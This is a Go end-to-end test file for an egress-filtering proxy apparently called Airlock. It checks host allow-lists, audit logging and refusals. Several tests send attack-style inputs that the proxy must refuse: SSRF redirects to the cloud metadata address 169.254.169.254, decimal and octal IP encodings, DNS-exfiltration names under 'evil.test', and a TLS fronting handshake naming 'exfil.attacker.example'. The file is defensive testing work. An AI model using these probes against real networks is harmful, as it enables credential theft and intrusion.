package e2e

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlockhq/airlock/internal/testutil"
)

// localConfig allows allowed.test (and *.allowed.test) on the given ports,
// with loopback reachable through allow_cidrs.
func localConfig(ports ...int) string {
	return localConfigWith("", ports...)
}

// localConfigWith is localConfig with extra lines under network:.
func localConfigWith(network string, ports ...int) string {
	ps := make([]string, len(ports))
	for i, p := range ports {
		ps[i] = fmt.Sprint(p)
	}
	return allowLocal + network + fmt.Sprintf(`
policies:
  default:
    allow:
      - host: allowed.test
        ports: [%[1]s]
      - host: "*.allowed.test"
        ports: [%[1]s]
`, strings.Join(ps, ", "))
}

func TestAllowedHTTPThroughAirlock(t *testing.T) {
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))
	target := fmt.Sprintf("http://allowed.test:%d/", up.Port())

	t.Run("curl", func(t *testing.T) {
		code, body := curl(t, p.URL(), target)
		if code != 200 || body != "hello from upstream\n" {
			t.Fatalf("curl: %d %q", code, body)
		}
	})
	t.Run("net/http", func(t *testing.T) {
		resp, body := get(t, httpClient(p.URL(), nil), target)
		if resp.StatusCode != 200 || body != "hello from upstream\n" {
			t.Fatalf("net/http: %d %q", resp.StatusCode, body)
		}
	})
	evs := p.WaitAudit(t, 2)
	if len(evs) != 2 {
		t.Fatalf("want 2 audit lines for 2 requests, got %d", len(evs))
	}
	for _, ev := range evs {
		wantFields(t, ev, map[string]any{
			"event": "http.request", "decision": "allow", "reason": "allowed", "sandbox": "default",
			"http.request.method": "GET", "url.scheme": "http", "server.address": "allowed.test",
			"server.port": up.Port(), "url.path": "/", "http.response.status_code": 200,
			"rule": "policies.default.allow[0]", "network.peer.address": "127.0.0.1",
			"client.address": "127.0.0.1", "intercepted": false, "bytes_sent": 0, "bytes_received": 20,
		})
		if _, ok := ev["duration_ms"]; !ok {
			t.Errorf("no duration_ms in %v", ev)
		}
		if _, ok := ev["time"]; !ok {
			t.Errorf("no time in %v", ev)
		}
	}
}

func TestAllowedHTTPSThroughCONNECT(t *testing.T) {
	ca := testutil.NewCA(t)
	up := testutil.NewTLSUpstream(t, ca, "allowed.test")
	p := testutil.StartProxy(t, localConfig(up.Port()))
	target := fmt.Sprintf("https://allowed.test:%d/bytes?n=100000&sig=SECRETVALUE", up.Port())

	t.Run("curl", func(t *testing.T) {
		caFile := ca.WritePEM(t, t.TempDir())
		code, body := curl(t, p.URL(), "--cacert", caFile, target)
		if code != 200 || len(body) != 100000 {
			t.Fatalf("curl: %d, %d bytes", code, len(body))
		}
	})
	t.Run("net/http", func(t *testing.T) {
		resp, body := get(t, httpClient(p.URL(), ca.Pool()), target)
		if resp.StatusCode != 200 || len(body) != 100000 {
			t.Fatalf("net/http: %d, %d bytes", resp.StatusCode, len(body))
		}
	})
	evs := p.WaitAudit(t, 2)
	for _, ev := range evs {
		wantFields(t, ev, map[string]any{
			"event": "tunnel", "decision": "allow", "http.request.method": "CONNECT",
			"server.address": "allowed.test", "server.port": up.Port(), "http.response.status_code": 200,
			"network.peer.address": "127.0.0.1", "intercepted": false,
		})
		// The tunnel carried the TLS handshake and a 100000-byte body.
		if ev["bytes_received"].(float64) < 100000 || ev["bytes_sent"].(float64) < 100 {
			t.Errorf("tunnel byte counts too small: %v", ev)
		}
	}
	for _, l := range p.AuditLines() {
		if strings.Contains(l, "SECRETVALUE") || strings.Contains(l, "sig") {
			t.Errorf("audit line holds tunnel contents: %s", l)
		}
	}
}

func TestUnlistedHostIsRefusedWith403(t *testing.T) {
	up := testutil.NewUpstream(t)
	dns := testutil.NewDNSStub(t, nil)
	p := testutil.StartProxy(t, localConfigWith(fmt.Sprintf("  resolvers: [%q]\n", dns.Addr), up.Port()))

	t.Run("http", func(t *testing.T) {
		resp, body := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://unlisted.example:%d/", up.Port()))
		if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Decision") != "host_not_allowed" {
			t.Fatalf("got %d %q", resp.StatusCode, resp.Header.Get("X-Airlock-Decision"))
		}
		for _, want := range []string{"unlisted.example", "host_not_allowed", "sandbox: default", "will not work"} {
			if !strings.Contains(body, want) {
				t.Errorf("denial body lacks %q:\n%s", want, body)
			}
		}
	})
	t.Run("curl https", func(t *testing.T) {
		code, _ := curl(t, p.URL(), "https://unlisted-tls.example/")
		if code != 403 {
			t.Fatalf("CONNECT to an unlisted host: curl saw %d, want 403", code)
		}
	})
	t.Run("port", func(t *testing.T) {
		status, _, _ := connectRaw(t, p.Addr, "allowed.test:22")
		if !strings.HasPrefix(status, "403") || !strings.Contains(status, "port_not_allowed") {
			t.Fatalf("CONNECT allowed.test:22: %s", status)
		}
	})
	ev := oneEvent(t, p, "unlisted.example", 3)
	wantFields(t, ev, map[string]any{"decision": "deny", "reason": "host_not_allowed", "http.response.status_code": 403, "bytes_received": 0})
	ev = oneEvent(t, p, "unlisted-tls.example", 3)
	wantFields(t, ev, map[string]any{"event": "tunnel", "decision": "deny", "reason": "host_not_allowed", "server.port": 443})
	for _, name := range []string{"unlisted.example", "unlisted-tls.example", "allowed.test"} {
		if dns.Asked(name) {
			t.Errorf("%s reached the resolver", name)
		}
	}
}

// A denied name must never reach a resolver: the decision is made on the
// host before any lookup. An allowed name does reach it (proving the stub
// is the resolver in use).
func TestDeniedNameNeverReachesResolver(t *testing.T) {
	up := testutil.NewUpstream(t)
	dns := testutil.NewDNSStub(t, map[string][]netip.Addr{
		"resolved.allowed.test": {netip.MustParseAddr("127.0.0.1")},
		"secret-data.evil.test": {netip.MustParseAddr("127.0.0.1")},
	})
	cfg := fmt.Sprintf(`
network:
  allow_cidrs: [127.0.0.1/32]
  resolvers: [%q]
policies:
  default:
    allow:
      - host: "*.allowed.test"
        ports: [%d]
`, dns.Addr, up.Port())
	p := testutil.StartProxy(t, cfg)
	c := httpClient(p.URL(), nil)

	resp, _ := get(t, c, fmt.Sprintf("http://secret-data.evil.test:%d/", up.Port()))
	if resp.StatusCode != 403 {
		t.Fatalf("denied name: %d", resp.StatusCode)
	}
	status, _, _ := connectRaw(t, p.Addr, fmt.Sprintf("secret-data.evil.test:%d", up.Port()))
	if !strings.HasPrefix(status, "403") {
		t.Fatalf("CONNECT to denied name: %s", status)
	}
	resp, body := get(t, c, fmt.Sprintf("http://resolved.allowed.test:%d/", up.Port()))
	if resp.StatusCode != 200 {
		t.Fatalf("allowed name: %d %s", resp.StatusCode, body)
	}
	if dns.Asked("secret-data.evil.test") {
		t.Errorf("the denied name reached the resolver: %v", dns.Queries())
	}
	if !dns.Asked("resolved.allowed.test") {
		t.Errorf("the allowed name was not resolved by the configured resolver: %v", dns.Queries())
	}
}

func TestAllowedNameResolvingToLoopbackIsBlocked(t *testing.T) {
	up := testutil.NewUpstream(t)
	dns := testutil.NewDNSStub(t, map[string][]netip.Addr{
		"rebind.allowed.test": {netip.MustParseAddr("127.0.0.1")},
		"mixed.allowed.test":  {netip.MustParseAddr("192.0.2.1"), netip.MustParseAddr("127.0.0.1")},
	})
	// No allow_cidrs: loopback stays blocked.
	cfg := fmt.Sprintf(`
network:
  resolvers: [%q]
  hosts:
    internal.allowed.test: 127.0.0.1
policies:
  default:
    allow:
      - host: "*.allowed.test"
        ports: [%d]
      - host: 127.0.0.1
        ports: [%d]
`, dns.Addr, up.Port(), up.Port())
	p := testutil.StartProxy(t, cfg)
	c := httpClient(p.URL(), nil)
	for _, name := range []string{"internal.allowed.test", "rebind.allowed.test", "mixed.allowed.test", "127.0.0.1"} {
		t.Run(name, func(t *testing.T) {
			resp, body := get(t, c, fmt.Sprintf("http://%s:%d/", name, up.Port()))
			if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Decision") != "address_blocked" {
				t.Fatalf("got %d %q\n%s", resp.StatusCode, resp.Header.Get("X-Airlock-Decision"), body)
			}
			if strings.Contains(body, "127.0.0.1") && name != "127.0.0.1" {
				t.Errorf("denial names the internal address: %s", body)
			}
			status, _, _ := connectRaw(t, p.Addr, fmt.Sprintf("%s:%d", name, up.Port()))
			if !strings.HasPrefix(status, "403") || !strings.Contains(status, "address_blocked") {
				t.Fatalf("CONNECT: %s", status)
			}
		})
	}
	if n := len(up.Requests()); n != 0 {
		t.Fatalf("the upstream on loopback was reached %d times", n)
	}
	evs := p.WaitAudit(t, 8)
	for _, ev := range evs {
		wantFields(t, ev, map[string]any{"decision": "deny", "reason": "address_blocked", "http.response.status_code": 403})
	}
}

func TestAllowCIDRsMakeAnInternalAddressReachable(t *testing.T) {
	up := testutil.NewUpstream(t)
	cfg := fmt.Sprintf(`
network:
  hosts:
    mirror.allowed.test: 127.0.0.1
policies:
  default:
    allow:
      - host: mirror.allowed.test
        ports: [%d]
`, up.Port())
	target := fmt.Sprintf("http://mirror.allowed.test:%d/", up.Port())

	blocked := testutil.StartProxy(t, cfg)
	resp, _ := get(t, httpClient(blocked.URL(), nil), target)
	if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Decision") != "address_blocked" {
		t.Fatalf("without allow_cidrs: %d %s", resp.StatusCode, resp.Header.Get("X-Airlock-Decision"))
	}

	withCIDR := testutil.StartProxy(t, strings.Replace(cfg, "network:\n", "network:\n  allow_cidrs: [127.0.0.1/32]\n", 1))
	resp, body := get(t, httpClient(withCIDR.URL(), nil), target)
	if resp.StatusCode != 200 || body != "hello from upstream\n" {
		t.Fatalf("with network.allow_cidrs: %d %q", resp.StatusCode, body)
	}

	withFlag := testutil.StartProxy(t, cfg, "--allow-cidr", "127.0.0.1/32")
	resp, _ = get(t, httpClient(withFlag.URL(), nil), target)
	if resp.StatusCode != 200 {
		t.Fatalf("with --allow-cidr: %d", resp.StatusCode)
	}
}

func TestRedirectToInternalURLReachesClientUnfollowed(t *testing.T) {
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))
	target := fmt.Sprintf("http://allowed.test:%d/redirect?to=http://169.254.169.254/latest/meta-data/", up.Port())

	resp, _ := get(t, httpClient(p.URL(), nil), target)
	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "http://169.254.169.254/latest/meta-data/" {
		t.Fatalf("got %d Location=%q", resp.StatusCode, resp.Header.Get("Location"))
	}
	code, _ := curl(t, p.URL(), target) // curl without -L: must see the 302 itself
	if code != http.StatusFound {
		t.Fatalf("curl got %d", code)
	}
	// A client that follows it anyway gets a refusal.
	resp, _ = get(t, httpClient(p.URL(), nil), "http://169.254.169.254/latest/meta-data/")
	if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Decision") != "address_blocked" {
		t.Fatalf("metadata: %d %s", resp.StatusCode, resp.Header.Get("X-Airlock-Decision"))
	}
	evs := p.WaitAudit(t, 3)
	if len(evs) != 3 {
		t.Fatalf("want 3 audit lines, got %d", len(evs))
	}
	if q := evs[0]["url.query"]; q != "to" {
		t.Errorf("url.query = %v, want keys only (\"to\")", q)
	}
	for _, l := range p.AuditLines()[:2] {
		if strings.Contains(l, "meta-data") {
			t.Errorf("a query value reached the audit log: %s", l)
		}
	}
}

func TestUpstreamSeesCanonicalAuthorityAndNoProxyHeaders(t *testing.T) {
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))

	c, err := net.Dial("tcp", p.Addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	// Mixed case and a trailing dot in the URI, a Host header naming
	// another site, credentials for the proxy, and hop-by-hop fields.
	fmt.Fprintf(c, "GET http://Allowed.TEST.:%d/headers HTTP/1.1\r\n"+
		"Host: evil.example\r\n"+
		"Proxy-Authorization: Basic c2VjcmV0OnNlY3JldA==\r\n"+
		"Proxy-Connection: keep-alive\r\n"+
		"Connection: close, X-Hop\r\n"+
		"X-Hop: drop me\r\n"+
		"Keep-Alive: timeout=5\r\n"+
		"X-End-To-End: keep me\r\n\r\n", up.Port())
	resp, err := http.ReadResponse(bufioReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var seen struct {
		Host   string
		Header http.Header
	}
	if err := json.NewDecoder(resp.Body).Decode(&seen); err != nil {
		t.Fatalf("status %d: %v", resp.StatusCode, err)
	}
	if want := fmt.Sprintf("allowed.test:%d", up.Port()); seen.Host != want {
		t.Errorf("upstream saw Host %q, want the canonical authority %q", seen.Host, want)
	}
	for _, h := range []string{"Proxy-Authorization", "Proxy-Connection", "X-Hop", "Keep-Alive"} {
		if v := seen.Header.Get(h); v != "" {
			t.Errorf("upstream received %s: %q", h, v)
		}
	}
	if seen.Header.Get("X-End-To-End") != "keep me" {
		t.Errorf("end-to-end header lost: %v", seen.Header)
	}
	for _, l := range p.AuditLines() {
		if strings.Contains(l, "c2VjcmV0") {
			t.Errorf("proxy credentials in an audit line: %s", l)
		}
	}
}

func TestMalformedRequestsAreRefused(t *testing.T) {
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))
	cases := []struct {
		name, raw, status, reason string
	}{
		{"origin-form", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "not_a_proxy_request"},
		{"ftp scheme", "GET ftp://allowed.test/file HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "unsupported_scheme"},
		{"userinfo", fmt.Sprintf("GET http://user:pw@allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", up.Port()), "400", "invalid_request"},
		{"CONNECT without port", "CONNECT allowed.test HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "invalid_host"},
		{"CONNECT with userinfo", fmt.Sprintf("CONNECT user:pw@allowed.test:%d HTTP/1.1\r\nHost: x\r\n\r\n", up.Port()), "400", ""},
		{"bracketed name", fmt.Sprintf("CONNECT [allowed.test]:%d HTTP/1.1\r\nHost: x\r\n\r\n", up.Port()), "400", ""},
		{"percent-encoded host", fmt.Sprintf("GET http://%%61llowed.test:%d/ HTTP/1.1\r\nHost: x\r\n\r\n", up.Port()), "400", ""},
		// 127.0.0.1 is reachable here (allow_cidrs) but no rule names it.
		{"decimal loopback", "GET http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\n\r\n", "403", "host_not_allowed"},
		{"octal metadata", "CONNECT 0251.0376.0251.0376:80 HTTP/1.1\r\nHost: x\r\n\r\n", "403", "address_blocked"},
		{"localhost", fmt.Sprintf("GET http://localhost:%d/ HTTP/1.1\r\nHost: localhost\r\n\r\n", up.Port()), "403", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, err := net.Dial("tcp", p.Addr)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(10 * time.Second))
			io.WriteString(c, tc.raw)
			line, _ := bufioReader(c).ReadString('\n')
			if !strings.Contains(line, " "+tc.status+" ") {
				t.Fatalf("got %q, want %s", line, tc.status)
			}
			if tc.reason != "" {
				// The reason is in the audit log.
				found := false
				deadline := time.Now().Add(5 * time.Second)
				for !found && time.Now().Before(deadline) {
					for _, l := range p.AuditLines() {
						found = found || strings.Contains(l, `"reason":"`+tc.reason+`"`)
					}
					time.Sleep(20 * time.Millisecond)
				}
				if !found {
					t.Errorf("no audit line with reason %s:\n%s", tc.reason, strings.Join(p.AuditLines(), "\n"))
				}
			}
		})
	}
	if n := len(up.Requests()); n != 0 {
		t.Errorf("upstream reached %d times by malformed requests", n)
	}
}

func TestRequestToAirlockItselfIsRefused(t *testing.T) {
	port := freePort(t)
	// Even with loopback allowed and a rule for the proxy's own port, a
	// request aimed back at Airlock is refused instead of looping.
	cfg := fmt.Sprintf(`
network:
  allow_cidrs: [127.0.0.0/8]
  hosts:
    self.allowed.test: 127.0.0.1
policies:
  default:
    allow:
      - host: self.allowed.test
        ports: [%[1]d]
      - host: 127.0.0.1
        ports: [%[1]d]
`, port)
	p := testutil.StartProxy(t, cfg, "--listen", fmt.Sprintf("127.0.0.1:%d", port))
	for _, target := range []string{"self.allowed.test", "127.0.0.1"} {
		resp, _ := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://%s:%d/", target, port))
		if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Decision") != "proxy_loop" {
			t.Errorf("%s: %d %q", target, resp.StatusCode, resp.Header.Get("X-Airlock-Decision"))
		}
		status, _, _ := connectRaw(t, p.Addr, fmt.Sprintf("%s:%d", target, port))
		if !strings.Contains(status, "proxy_loop") {
			t.Errorf("CONNECT %s: %s", target, status)
		}
	}
}

func TestUpstreamDownAnswers502WithoutInternalAddress(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close() // nothing listens there now
	p := testutil.StartProxy(t, localConfig(port))

	resp, body := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://allowed.test:%d/", port))
	if resp.StatusCode != http.StatusBadGateway {
		t.Fatalf("got %d", resp.StatusCode)
	}
	if strings.Contains(body, "127.0.0.1") || strings.Contains(body, fmt.Sprint(port)) {
		t.Errorf("502 body echoes the internal address: %q", body)
	}
	status, _, _ := connectRaw(t, p.Addr, fmt.Sprintf("allowed.test:%d", port))
	if !strings.HasPrefix(status, "502") || strings.Contains(status, "127.0.0.1") {
		t.Errorf("CONNECT: %q", status)
	}
	evs := p.WaitAudit(t, 2)
	for _, ev := range evs {
		wantFields(t, ev, map[string]any{"decision": "allow", "reason": "upstream_error", "http.response.status_code": 502, "error.type": "connection_refused"})
	}
}

// tlsTunnel opens CONNECT allowed.test:port through p and starts TLS to
// allowed.test inside it.
func tlsTunnel(t *testing.T, p *testutil.Proxy, port int, pool *x509.CertPool, sni string) (net.Conn, *tls.Conn) {
	t.Helper()
	status, c, _ := connectRaw(t, p.Addr, fmt.Sprintf("allowed.test:%d", port))
	if status != "200" {
		t.Fatal(status)
	}
	t.Cleanup(func() { c.Close() })
	return c, tls.Client(c, &tls.Config{ServerName: sni, RootCAs: pool, InsecureSkipVerify: sni != "allowed.test"})
}

func TestShutdownDrainsOpenTunnelsThenClosesThem(t *testing.T) {
	ca := testutil.NewCA(t)
	up := testutil.NewTLSUpstream(t, ca, "allowed.test")
	p := testutil.StartProxy(t, localConfig(up.Port())+"limits:\n  drain_timeout: 2s\n")
	_, tc := tlsTunnel(t, p, up.Port(), ca.Pool(), "allowed.test")
	br := bufio.NewReader(tc)
	roundTrip := func() error {
		fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
		resp, err := http.ReadResponse(br, nil)
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		return err
	}
	if err := roundTrip(); err != nil {
		t.Fatal(err)
	}
	if err := p.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if !p.WaitStderr("shutting down") {
		t.Fatalf("no shutdown after SIGTERM:\n%s", p.Stderr())
	}
	// Draining: no new connections, but the open tunnel still carries requests.
	if c, err := net.DialTimeout("tcp", p.Addr, time.Second); err == nil {
		c.Close()
		t.Error("a new connection was accepted while draining")
	}
	if err := roundTrip(); err != nil {
		t.Errorf("the open tunnel stopped working during the drain: %v", err)
	}
	// After drain_timeout the tunnel is closed and its audit line written.
	tc.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := br.ReadByte(); err == nil {
		t.Error("the tunnel stayed open after the drain time")
	}
	p.StopAndFlush(t)
	evs := p.Audit(t)
	if len(evs) != 1 {
		t.Fatalf("want the tunnel's audit line after shutdown, got %d lines", len(evs))
	}
	wantFields(t, evs[0], map[string]any{"event": "tunnel", "decision": "allow", "close_reason": "shutdown"})
	if evs[0]["bytes_sent"].(float64) == 0 || evs[0]["bytes_received"].(float64) == 0 {
		t.Errorf("tunnel bytes not counted: %v", evs[0])
	}
}

func TestIdleTunnelIsClosed(t *testing.T) {
	ca := testutil.NewCA(t)
	up := testutil.NewTLSUpstream(t, ca, "allowed.test")
	p := testutil.StartProxy(t, localConfig(up.Port())+"limits:\n  idle_timeout: 1s\n")
	raw, tc := tlsTunnel(t, p, up.Port(), ca.Pool(), "allowed.test")
	if err := tc.Handshake(); err != nil {
		t.Fatal(err)
	}
	raw.SetReadDeadline(time.Now().Add(15 * time.Second))
	if _, err := tc.Read(make([]byte, 1)); err == nil {
		t.Fatal("read data from an idle tunnel")
	} else if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Fatal("the idle tunnel was not closed by the proxy")
	}
	wantFields(t, p.WaitAudit(t, 1)[0], map[string]any{"close_reason": "idle_timeout", "limit": "idle_timeout"})
	// Closing an idle tunnel costs the sandbox nothing: the next one works.
	_, again := tlsTunnel(t, p, up.Port(), ca.Pool(), "allowed.test")
	if err := again.Handshake(); err != nil {
		t.Errorf("a new tunnel after the idle one was closed: %v", err)
	}
}

// The CDN-fronting attack: a tunnel to an allowed host whose TLS names
// another site. CDNs route on the server name, so it must be refused.
func TestOpaqueTunnelMustNameItsHostInTLS(t *testing.T) {
	ca := testutil.NewCA(t)
	up := testutil.NewTLSUpstream(t, ca, "allowed.test")
	p := testutil.StartProxy(t, localConfig(up.Port()))
	_, tc := tlsTunnel(t, p, up.Port(), ca.Pool(), "exfil.attacker.example")
	if err := tc.Handshake(); err == nil {
		t.Fatal("a TLS handshake naming another server went through")
	}
	raw, _ := tlsTunnel(t, p, up.Port(), ca.Pool(), "allowed.test")
	io.WriteString(raw, "GET / HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n")
	raw.SetReadDeadline(time.Now().Add(15 * time.Second))
	if b, _ := io.ReadAll(raw); len(b) != 0 {
		t.Fatalf("plain HTTP through a tunnel got %q", b)
	}
	if n := len(up.Requests()); n != 0 {
		t.Fatalf("the upstream was reached %d times", n)
	}
	evs := p.WaitAudit(t, 2)
	reasons := map[any]bool{}
	for _, ev := range evs {
		wantFields(t, ev, map[string]any{"event": "tunnel", "decision": "deny", "close_reason": "refused"})
		reasons[ev["reason"]] = true
	}
	if !reasons["authority_mismatch"] || !reasons["tls_required"] {
		t.Errorf("reasons %v, want authority_mismatch and tls_required", reasons)
	}
}

func TestPolicyCheckReportsLineAndColumn(t *testing.T) {
	bin := testutil.Binary(t)
	cases := map[string]struct{ yaml, want string }{
		"unknown key": {"policies:\n  default:\n    alow:\n      - host: a.example\n", ":3:5: policies.default.alow: unknown key"},
		"bad CIDR":    {"network:\n  allow_cidrs: [10.0.0.300/32]\n", ":2:17: network.allow_cidrs[0]: \"10.0.0.300/32\" is not a CIDR"},
		"*.com":       {"policies:\n  default:\n    allow:\n      - host: \"*.com\"\n", ":4:15: policies.default.allow[0].host: \"*.com\" is a public suffix wildcard"},
	}
	dir := t.TempDir()
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, strings.ReplaceAll(name, " ", "_")+".yaml")
			os.WriteFile(path, []byte(tc.yaml), 0o600)
			out, err := execOutput(bin, "policy", "check", path)
			if code := exitCode(err); code != 1 {
				t.Fatalf("exit %d, want 1; output:\n%s", code, out)
			}
			if !strings.Contains(out, path+tc.want) {
				t.Fatalf("output lacks %q:\n%s", path+tc.want, out)
			}
		})
	}
	t.Run("valid", func(t *testing.T) {
		path := filepath.Join(dir, "ok.yaml")
		os.WriteFile(path, []byte("policies:\n  default:\n    allow:\n      - host: api.github.com\n"), 0o600)
		if out, err := execOutput(bin, "policy", "check", path); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	})
}

func TestRequestBodyIsForwardedAndCounted(t *testing.T) {
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))
	body := strings.Repeat("y", 300000)
	resp, err := httpClient(p.URL(), nil).Post(fmt.Sprintf("http://allowed.test:%d/echo", up.Port()), "text/plain", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(got) != body {
		t.Fatalf("echo: %d, %d bytes", resp.StatusCode, len(got))
	}
	ev := p.WaitAudit(t, 1)[0]
	wantFields(t, ev, map[string]any{"http.request.method": "POST", "bytes_sent": 300000, "bytes_received": 300000})
}

// Airlock is the egress: it must never hand requests to a proxy named in
// its own environment.
func TestProxyEnvironmentIsIgnored(t *testing.T) {
	trap := testutil.NewUpstream(t) // would see the request if HTTP_PROXY were used
	t.Setenv("HTTP_PROXY", trap.URL)
	t.Setenv("http_proxy", trap.URL)
	t.Setenv("HTTPS_PROXY", trap.URL)
	up := testutil.NewUpstream(t)
	p := testutil.StartProxy(t, localConfig(up.Port()))
	resp, body := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://allowed.test:%d/", up.Port()))
	if resp.StatusCode != 200 || body != "hello from upstream\n" {
		t.Fatalf("%d %q", resp.StatusCode, body)
	}
	if n := len(trap.Requests()); n != 0 {
		t.Fatalf("the proxy from the environment received %d requests", n)
	}
	if n := len(up.Requests()); n != 1 {
		t.Fatalf("upstream saw %d requests, want 1", n)
	}
}

func TestSlowHeaderIsCutOff(t *testing.T) {
	p := testutil.StartProxy(t, localConfig(80)+"limits: {header_timeout: 500ms}\n")
	c, err := net.Dial("tcp", p.Addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n") // never finished
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	_, err = io.ReadAll(c)
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Fatal("the proxy kept a connection with an unfinished header open past header_timeout")
	}
}
